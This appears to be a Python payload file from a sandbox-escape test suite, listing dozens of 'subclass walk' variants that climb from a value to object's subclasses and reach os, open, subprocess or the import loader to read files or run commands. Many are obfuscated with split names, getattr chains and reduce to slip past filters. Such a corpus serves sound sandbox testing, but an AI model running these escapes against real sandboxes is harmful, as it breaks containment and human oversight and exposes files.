"""From any value to its class, to `object`, and down to a class whose module knows the built-ins."""

from __future__ import annotations

from scripts.escapes.payloads import family

PAYLOADS = family(
    "subclass walks",
    r"""
## the walk that everybody knows
!module [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by the method resolution order
!module [c for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by type and mro()
!module [c for c in type(0).mro()[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by bases
!module [c for c in {}.__class__.__bases__[0].__subclasses__() if c.__name__ == '_wrap_close'][0].close.__globals__
## from object itself
!module [c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## from type with object
!module [c for c in type.__subclasses__(object) if c.__name__ == '_wrap_close'][0].__init__.__globals__
## from the receiver's own class
!module [c for c in self.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with getattr and split names
c = getattr((), '__cl' + 'ass__')
s = getattr(getattr(c, '__ba' + 'se__'), '__subcl' + 'asses__')()
for each in s:
    if getattr(each, '__na' + 'me__') == '_wrap_close':
        f = getattr(each, '__in' + 'it__')
        return getattr(f, '__glo' + 'bals__')['__builtins__']['open'](path).read()
## with names joined at run time
names = ['_' * 2 + n + '_' * 2 for n in ('class', 'base', 'subclasses')]
x = ()
for n in names[:2]:
    x = getattr(x, n)
w = [c for c in getattr(x, names[2])() if 'wrap_close' in repr(c)][0]
return getattr(getattr(w, '__init__'), '__globals__')['__builtins__']['open'](path).read()
## with reduce over getattr
import functools
s = functools.reduce(getattr, ['__class__', '__base__', '__subclasses__'], ())()
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with reduce and no import
s = functools.reduce(getattr, ['__class__', '__base__', '__subclasses__'], ())()
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with map over getattr
k = list(map(getattr, [()], ['__class__']))[0]
k = list(map(getattr, [k], ['__base__']))[0]
s = list(map(getattr, [k], ['__subclasses__']))[0]()
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with partial of getattr
s = functools.partial(getattr, ().__class__)('__base__')
!module [c for c in s.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by an unbound method of type
k = list.__class__.__subclasses__(list.__class__.__base__)
!module [c for c in k if c.__name__ == '_wrap_close'][0].__init__.__globals__
## through the class of a method
k = [].append.__class__.__base__.__subclasses__()
!module [c for c in k if c.__name__ == '_wrap_close'][0].__init__.__globals__
## through the class of a lambda
k = (lambda: 0).__class__.__base__.__subclasses__()
!module [c for c in k if c.__name__ == '_wrap_close'][0].__init__.__globals__
## through a warning's catcher
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]
!module k()._module.__dict__['sys'].modules['os']
## through the loader of the import system
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
!module k.load_module('sys').modules['os']
## through a file loader that reads
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'FileLoader'][0]
return k('x', path).get_data(path)
## through Popen's class
import subprocess
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]
return k(['cat', path], stdout=-1).communicate()[0]
## through subclasses of an exception
k = [c for c in BaseException.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## through a range
k = [c for c in range(1).__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## through a pattern's class
k = [c for c in re.compile('a').__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## through a Decimal
k = [c for c in decimal.Decimal(1).__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## in a class pattern's attributes
match ():
    case object(__class__=c):
        k = [x for x in c.__base__.__subclasses__() if x.__name__ == '_wrap_close'][0]
        return k.__init__.__globals__['__builtins__']['open'](path).read()
## in a default argument
def inner(k=().__class__.__base__.__subclasses__()):
    return [c for c in k if c.__name__ == '_wrap_close'][0]
!module inner().__init__.__globals__
## in a comprehension's condition
k = [g for g in [().__class__.__base__] if (s := g.__subclasses__())]
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
""",
)
